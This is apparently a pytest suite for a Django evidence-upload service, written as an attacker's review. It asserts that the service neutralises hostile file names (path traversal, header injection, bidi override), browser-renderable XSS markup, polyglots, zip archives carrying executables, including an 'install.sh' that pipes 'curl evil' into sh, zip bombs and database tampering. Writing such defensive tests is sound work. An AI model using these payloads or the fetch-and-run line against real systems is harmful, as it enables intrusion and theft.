"""An attacker's review of evidence files: who may touch them, hostile files and names, the download's headers,
what a sign-off binds, and two uploads racing for one stored file. Each test is what an attacker tried; the
assertion is what must hold."""

import datetime as dt
import gzip
import hashlib
import io
import uuid
import zipfile

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection

from audits.base import UnrecordedBulkWrite
from audits.models import AuditEvent
from fmgov.evidence import services
from fmgov.evidence.models import Attachment, AttachmentChanged
from fmgov.evidence.sniff import MAX_ZIP_ENTRIES
from fmgov.evidence.tests.factories import PDF_BYTES, attach, pdf_bytes
from fmgov.reviews.content import review_content_hash
from fmgov.reviews.services import review_submit
from fmgov.reviews.tests.factories import approve, ready_review

pytestmark = pytest.mark.django_db
DAY = dt.timedelta(days=1)


def _post(client, url, content=PDF_BYTES, name="red-team.pdf"):
    return client.post(url, {"file": SimpleUploadedFile(name, content)}, format="multipart")


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buf.getvalue()


# --- Who may read and write -------------------------------------------------------------------------------------


def test_anonymous_lists_uploads_and_downloads_nothing(api_client, engineer):
    review = ready_review(author=engineer)
    a = attach(engineer, review)
    assert api_client.get(f"/api/v1/reviews/{review.pk}/attachments/").status_code in (401, 403)
    assert _post(api_client, f"/api/v1/reviews/{review.pk}/attachments/", name="x.pdf").status_code in (401, 403)
    assert api_client.get(f"/api/v1/attachments/{a.pk}/download/").status_code in (401, 403)
    assert Attachment.objects.count() == 1 and not AuditEvent.objects.filter(action="attachment.download").exists()


def test_reviewer_cannot_write_a_review_and_an_item_of_another_review_is_not_reached_through_mine(
    client_for, engineer, other_engineer, reviewer
):
    mine = ready_review(author=engineer)
    theirs = ready_review(author=other_engineer)
    assert _post(client_for(reviewer), f"/api/v1/reviews/{mine.pk}/attachments/").status_code == 403
    their_item = theirs.items.first()
    # My review in the URL, their item: the item is looked up under my review, so it is not found.
    assert (
        _post(client_for(engineer), f"/api/v1/reviews/{mine.pk}/items/{their_item.pk}/attachments/").status_code == 404
    )
    assert not Attachment.objects.exists()


def test_a_file_for_an_item_removed_meanwhile_is_refused_not_left_pointing_at_nothing(engineer):
    from fmgov.core.exceptions import Conflict
    from fmgov.reviews.services import review_item_delete
    from fmgov.reviews.tests.factories import add_item

    review = ready_review(author=engineer)
    item = add_item(review, engineer, "privacy")
    stale = type(item).objects.get(pk=item.pk)  # what the upload's request read before the removal
    review_item_delete(item=item, actor=engineer)
    with pytest.raises(Conflict, match="removed"):
        attach(engineer, stale)
    assert not Attachment.objects.exists()


# --- Hostile names ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "stored"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\system32\\evil.pdf", "evil.pdf"),
        ("report\x00.exe.pdf", "report.exe.pdf"),
        ("line\r\nSet-Cookie: x=1.pdf", "lineSet-Cookie: x=1.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # the right-to-left override is gone: what you read is the name
        ("re\u0301sume\u0301.pdf", "r\u00e9sum\u00e9.pdf"),  # one spelling (NFC) for one name
    ],
)
def test_a_hostile_name_is_stored_as_a_plain_name_and_the_bytes_under_their_digest(engineer, raw, stored):
    a = attach(engineer, ready_review(author=engineer), name=raw)
    assert a.name == stored
    assert a.file.name == services.storage_name(a.sha256)


def test_decomposed_and_composed_spellings_of_one_name_are_one_revision_chain(engineer):
    review = ready_review(author=engineer)
    first = attach(engineer, review, name="r\u00e9sum\u00e9.pdf")
    second = attach(engineer, review, name="re\u0301sume\u0301.pdf", content=pdf_bytes("v2"))
    assert (second.revision, second.supersedes_id) == (2, first.pk)


def test_a_10000_character_name_keeps_its_extension_within_the_column(engineer):
    a = attach(engineer, ready_review(author=engineer), name="a" * 10_000 + ".pdf")
    assert len(a.name) <= 200 and a.name.endswith(".pdf")


def test_download_headers_cannot_be_injected_and_are_never_cached(client_for, engineer, auditor):
    review = ready_review(author=engineer)
    a = attach(engineer, review, name='evil"; filename="x.html\u202e.pdf')
    response = client_for(auditor).get(f"/api/v1/attachments/{a.pk}/download/")
    assert response.status_code == 200
    b"".join(response.streaming_content)
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;") and "\u202e" not in disposition and "\r" not in disposition
    assert 'filename="x.html' not in disposition  # the quote is escaped, not a second parameter
    assert response["Content-Type"] == "application/octet-stream"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]


# --- Hostile content -------------------------------------------------------------------------------------------


def test_deeply_nested_json_is_text_not_a_server_error(client_for, engineer):
    review = ready_review(author=engineer)
    response = _post(client_for(engineer), f"/api/v1/reviews/{review.pk}/attachments/", b"[" * 200_000, "deep.json")
    assert response.status_code == 201, response.content
    assert response.json()["content_type"] == "text/plain"


def test_a_large_json_upload_is_not_parsed_into_ten_times_its_size():
    """Floats in an array cost ~40 bytes each once parsed; past JSON_PARSE_MAX only the ends are read."""
    import tracemalloc

    from fmgov.evidence.sniff import JSON_PARSE_MAX, detect_type

    content = b"[" + b"1.5," * (JSON_PARSE_MAX // 4 + 1000) + b"1.5]\n"
    tracemalloc.start()
    try:
        detected = detect_type(io.BytesIO(content), len(content))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert detected == "application/json"
    assert peak < len(content), f"detecting the type took {peak:,} bytes for a {len(content):,}-byte file"
    cut = content[:-3]
    assert detect_type(io.BytesIO(cut), len(cut)) == "text/plain"


@pytest.mark.parametrize(
    "content",
    [
        b"\xef\xbb\xbf<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",  # behind a byte-order mark
        b"<!-- harmless --><html><script>alert(document.cookie)</script></html>",  # behind a comment
        b"\t\n <!DOCTYPE svg><svg onload=alert(1)>",
        b"<div onmouseover=alert(1)>hover</div>",
        b"<a href=javascript:alert(1)>click</a>",
    ],
)
def test_markup_a_browser_would_render_is_refused(engineer, content):
    with pytest.raises(services.UnsupportedFileType, match="markup"):
        attach(engineer, ready_review(author=engineer), content=content, name="notes.txt")


def test_a_markdown_red_team_report_quoting_a_payload_is_still_text(engineer):
    content = b"# Red team, October\n\nPrompt injection returned `<script>alert(1)</script>` verbatim.\n"
    assert attach(engineer, ready_review(author=engineer), content=content, name="rt.md").content_type == "text/plain"


@pytest.mark.parametrize(
    ("content", "detected"),
    [
        (b"%PDF-1.4\n<html><script>alert(1)</script></html>", "application/pdf"),
        (b"\x89PNG\r\n\x1a\n<svg onload=alert(1)>", "image/png"),
    ],
)
def test_a_polyglot_is_served_as_bytes_to_save_never_to_render(client_for, engineer, auditor, content, detected):
    a = attach(engineer, ready_review(author=engineer), content=content, name="chart.png")
    assert a.content_type == detected
    response = client_for(auditor).get(f"/api/v1/attachments/{a.pk}/download/")
    assert b"".join(response.streaming_content) == content
    assert response["Content-Type"] == "application/octet-stream" and response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment;")


@pytest.mark.parametrize(
    ("members", "what"),
    [
        ({"results.csv": b"a,b\n1,2\n", "setup.exe": b"MZ\x90\x00" + b"\x00" * 64}, "setup.exe"),
        ({"results.csv": b"a,b\n", "tools/run": b"\x7fELF\x02\x01\x01" + b"\x00" * 64}, "tools/run"),
        ({"install.sh": b"#!/bin/sh\ncurl evil | sh\n"}, "install.sh"),
        ({"macro.vbs": b"MsgBox 1"}, "macro.vbs"),
    ],
)
def test_a_zip_carrying_an_executable_is_refused(engineer, members, what):
    with pytest.raises(services.UnsupportedFileType, match=what):
        attach(engineer, ready_review(author=engineer), content=_zip(members), name="export.zip")
    assert not Attachment.objects.exists()


def _encrypted(members: dict[str, bytes]) -> bytes:
    """A ZIP whose members are marked encrypted (general-purpose flag bit 0, in each local and central header):
    readable names, unreadable bytes, as a password-protected archive is to the server."""
    data = bytearray(_zip(members))
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at != -1:
            data[at + flag_at] |= 0x1
            at = data.find(signature, at + 4)
    return bytes(data)


def test_a_password_protected_zip_is_judged_by_its_members_names(engineer):
    review = ready_review(author=engineer)
    assert attach(engineer, review, content=_encrypted({"dpia.pdf": PDF_BYTES}), name="dpia.zip").content_type == (
        "application/zip"
    )
    with pytest.raises(services.UnsupportedFileType, match="setup.exe"):
        attach(engineer, review, content=_encrypted({"setup.exe": b"MZ" + b"\x00" * 64}), name="x.zip")


def test_evidence_rows_cannot_be_changed_or_deleted_in_the_admin(client, admin_user, engineer):
    a = attach(engineer, ready_review(author=engineer))
    client.force_login(admin_user)
    assert client.get(f"/admin/evidence/attachment/{a.pk}/change/").status_code == 200  # shown, read only
    assert client.post(f"/admin/evidence/attachment/{a.pk}/delete/", {"post": "yes"}).status_code == 403
    assert client.post(f"/admin/evidence/attachment/{a.pk}/change/", {"name": "x.pdf"}).status_code == 403
    assert Attachment.objects.get(pk=a.pk).name == "red-team.pdf"


def test_a_gzip_of_an_executable_is_refused(engineer):
    content = gzip.compress(b"\x7fELF\x02\x01\x01" + b"\x00" * 1000)
    with pytest.raises(services.UnsupportedFileType, match="ELF"):
        attach(engineer, ready_review(author=engineer), content=content, name="logs.gz")


def test_a_zip_of_too_many_entries_is_refused_from_its_directory_count(engineer):
    content = _zip({f"{i}.txt": b"" for i in range(MAX_ZIP_ENTRIES + 1)})
    with pytest.raises(services.UnsupportedFileType, match=f"{MAX_ZIP_ENTRIES + 1:,} entries"):
        attach(engineer, ready_review(author=engineer), content=content, name="many.zip")


def test_a_zip_bomb_is_accepted_unexpanded(engineer):
    """64 MB of zeros in a ~64 KB archive: only member heads are read, so the upload stays small and quick."""
    content = _zip({"results.csv": b"a,b\n", "zeros.bin": b"\x00" * (64 * 1024 * 1024)})
    assert len(content) < 1024 * 1024
    a = attach(engineer, ready_review(author=engineer), content=content, name="bomb.zip")
    assert (a.content_type, a.size) == ("application/zip", len(content))


def test_a_body_longer_than_its_content_length_is_cut_and_refused(client_for, engineer):
    review = ready_review(author=engineer)
    client = client_for(engineer)
    boundary = "BoUnDaRy"
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.pdf"\r\n'
            f"Content-Type: application/pdf\r\n\r\n"
        ).encode()
        + b"%PDF-1.7\n"
        + b"0" * 200_000
        + f"\r\n--{boundary}--\r\n".encode()
    )
    response = client.generic(
        "POST",
        f"/api/v1/reviews/{review.pk}/attachments/",
        body,
        content_type=f"multipart/form-data; boundary={boundary}",
        CONTENT_LENGTH="1000",  # the lie: the server reads 1000 bytes and the multipart never closes
    )
    assert response.status_code == 400 and not Attachment.objects.exists()
    chunked = client.generic(
        "POST",
        f"/api/v1/reviews/{review.pk}/attachments/",
        body,
        content_type=f"multipart/form-data; boundary={boundary}",
        CONTENT_LENGTH="",
        HTTP_TRANSFER_ENCODING="chunked",
    )
    assert chunked.status_code == 400 and not Attachment.objects.exists()


def test_two_files_in_one_multipart_store_one_and_the_trail_names_it(client_for, engineer):
    review = ready_review(author=engineer)
    first, second = SimpleUploadedFile("a.pdf", pdf_bytes("a")), SimpleUploadedFile("b.pdf", pdf_bytes("b"))
    response = client_for(engineer).post(
        f"/api/v1/reviews/{review.pk}/attachments/", {"file": [first, second]}, format="multipart"
    )
    assert response.status_code == 201
    (stored,) = Attachment.objects.all()
    assert stored.name == response.json()["name"] and stored.sha256 == response.json()["sha256"]
    (event,) = AuditEvent.objects.filter(action="attachment.upload")
    assert event.changes["sha256"] == [None, stored.sha256]


# --- What a sign-off binds --------------------------------------------------------------------------------------


@pytest.fixture
def own_bytes():
    """PDF bytes no other test uploads, and every stored copy of them removed afterwards (the test media folder
    lives for the session, so bytes forged here must not reach another test)."""
    content = pdf_bytes(f"attack {uuid.uuid4()}")
    yield content
    name = services.storage_name(hashlib.sha256(content).hexdigest())
    folder, digest = name.rsplit("/", 1)
    if default_storage.exists(folder):
        for stored in default_storage.listdir(folder)[1]:
            if stored.startswith(digest):
                default_storage.delete(f"{folder}/{stored}")


@pytest.fixture
def approved_with_file(engineer, reviewer, other_reviewer, own_bytes):
    review = ready_review(author=engineer)
    a = attach(engineer, review.items.first(), content=own_bytes, description="Red team, October")
    review = review_submit(review=review, actor=engineer)
    approve(review, reviewer, other_reviewer)
    review.refresh_from_db()
    return review, Attachment.objects.get(pk=a.pk)


def test_an_attachment_row_is_never_changed_or_deleted_through_the_orm(approved_with_file):
    review, a = approved_with_file
    for field, value in [("sha256", "0" * 64), ("file", "evidence/elsewhere"), ("description", "x"), ("name", "y")]:
        fresh = Attachment.objects.get(pk=a.pk)
        setattr(fresh, field, value)
        with pytest.raises(AttachmentChanged):
            fresh.save()
    with pytest.raises(AttachmentChanged):
        Attachment.objects.get(pk=a.pk).delete()
    with pytest.raises(UnrecordedBulkWrite):
        Attachment.objects.filter(pk=a.pk).update(description="x")
    with pytest.raises(UnrecordedBulkWrite):
        Attachment.objects.filter(pk=a.pk).delete()
    assert Attachment.objects.get(pk=a.pk).sha256 == a.sha256
    assert review_content_hash(review, scheme=review.hash_scheme) == review.content_hash


@pytest.mark.parametrize(
    ("column", "value"), [("sha256", "'" + "0" * 64 + "'"), ("name", "'other.pdf'"), ("revision", "7")]
)
def test_a_raw_database_edit_of_digest_name_or_revision_breaks_the_binding(approved_with_file, column, value):
    review, a = approved_with_file
    assert review_content_hash(review, scheme=review.hash_scheme) == review.content_hash
    with connection.cursor() as cursor:
        cursor.execute(f"UPDATE evidence_attachment SET {column} = {value} WHERE id = %s", [a.pk])
    assert review_content_hash(review, scheme=review.hash_scheme) != review.content_hash


def test_stored_bytes_changed_behind_the_record_are_not_served_under_its_digest(
    client_for, approved_with_file, auditor
):
    _, a = approved_with_file
    path = default_storage.path(a.file.name)
    with open(path, "rb") as fh:
        tampered = bytearray(fh.read())
    tampered[-3:] = b"EVL"
    with open(path, "wb") as fh:
        fh.write(tampered)
    response = client_for(auditor).get(f"/api/v1/attachments/{a.pk}/download/")
    assert response.status_code == 409
    assert "SHA-256" in response.json()["detail"]
    assert not AuditEvent.objects.filter(action="attachment.download").exists()


# --- One stored file per digest ---------------------------------------------------------------------------------


def test_same_size_tampered_bytes_at_a_digest_path_are_not_reused_for_a_new_upload(engineer, own_bytes):
    sha = hashlib.sha256(own_bytes).hexdigest()
    name = services.storage_name(sha)
    forged = own_bytes[:-4] + b"EVL\n"
    assert default_storage.save(name, io.BytesIO(forged)) == name
    a = attach(engineer, ready_review(author=engineer), content=own_bytes)
    with default_storage.open(a.file.name, "rb") as fh:
        assert hashlib.sha256(fh.read()).hexdigest() == sha


def test_identical_bytes_uploaded_while_another_upload_writes_them_share_one_file(
    engineer, other_engineer, monkeypatch, own_bytes
):
    """Two parents, the same bytes, at the same moment: both saw no file yet; the second writes a copy, finds the
    first's complete file under the digest and keeps that one."""
    first = attach(engineer, ready_review(author=engineer), content=own_bytes)
    real_exists, seen = default_storage.exists, []

    def exists_before_the_other_finished(name: str) -> bool:
        seen.append(name)
        return False if len(seen) == 1 else real_exists(name)  # the race: the first look found nothing yet

    monkeypatch.setattr(default_storage, "exists", exists_before_the_other_finished)
    second = attach(other_engineer, ready_review(author=other_engineer), content=own_bytes)
    monkeypatch.undo()
    assert seen[0] == services.storage_name(first.sha256)
    assert first.file.name == second.file.name == services.storage_name(first.sha256)
    folder = services.storage_name(first.sha256).rsplit("/", 1)[0]
    assert [f for f in default_storage.listdir(folder)[1] if f.startswith(first.sha256)] == [first.sha256]


def test_a_purge_never_deletes_bytes_an_upload_reused_after_the_purge_looked(
    engineer, admin_user, own_bytes, django_capture_on_commit_callbacks
):
    """The purge deletes an old attachment's file after it commits; an upload of the same bytes in between reuses
    the stored file. The file stays: it is checked again when it is deleted, not from the purge's snapshot."""
    from django.utils import timezone

    from fmgov.retention.services import purge_expired

    old = attach(engineer, ready_review(author=engineer), content=own_bytes)
    with django_capture_on_commit_callbacks(execute=True):
        result = purge_expired(record_class="attachments", actor=admin_user, now=timezone.now() + 4000 * DAY)
        assert old.pk in result["deleted_ids"]
        new = attach(engineer, ready_review(author=engineer), content=own_bytes)  # before the purge's file deletion
    assert new.file.name == old.file.name and default_storage.exists(new.file.name)
    with services.attachment_open_for_download(actor=engineer, attachment=new) as fh:
        assert hashlib.sha256(fh.read()).hexdigest() == new.sha256


def test_a_purge_deletes_the_bytes_no_attachment_names_any_more(
    engineer, admin_user, own_bytes, django_capture_on_commit_callbacks
):
    from django.utils import timezone

    from fmgov.retention.services import purge_expired

    old = attach(engineer, ready_review(author=engineer), content=own_bytes)
    with django_capture_on_commit_callbacks(execute=True):
        purge_expired(record_class="attachments", actor=admin_user, now=timezone.now() + 4000 * DAY)
    assert not default_storage.exists(old.file.name)


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_on_postgresql_a_purges_deletion_waits_for_an_uncommitted_upload_reusing_the_file(make_user, own_bytes):
    """The purge's file deletion and an upload that reused the file but has not committed yet: the deletion waits
    on the digest's lock, then sees the new row and keeps the file."""
    import threading

    from django.db import connections, transaction

    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL advisory locks across connections")
    engineer = make_user("erin", "engineer")
    review = ready_review(author=engineer)
    name = services.storage_name(hashlib.sha256(own_bytes).hexdigest())
    default_storage.save(name, io.BytesIO(own_bytes))  # left by an attachment the purge just deleted
    reused, commit, released = threading.Event(), threading.Event(), []
    errors: list[BaseException] = []

    def upload() -> None:
        try:
            with transaction.atomic():
                attach(engineer, review, content=own_bytes)
                reused.set()
                commit.wait(30)
        except BaseException as exc:  # reported below
            errors.append(exc)
            reused.set()
        finally:
            connections.close_all()

    def release() -> None:
        try:
            released.append(services.stored_file_release(name))
        except BaseException as exc:
            errors.append(exc)
        finally:
            connections.close_all()

    uploader = threading.Thread(target=upload)
    uploader.start()
    assert reused.wait(30)
    releaser = threading.Thread(target=release)
    releaser.start()
    releaser.join(1.0)
    waited = releaser.is_alive()
    commit.set()
    uploader.join(30)
    releaser.join(30)
    assert not errors
    assert waited, "the deletion did not wait for the upload holding the digest's lock"
    assert released == [False] and default_storage.exists(name)
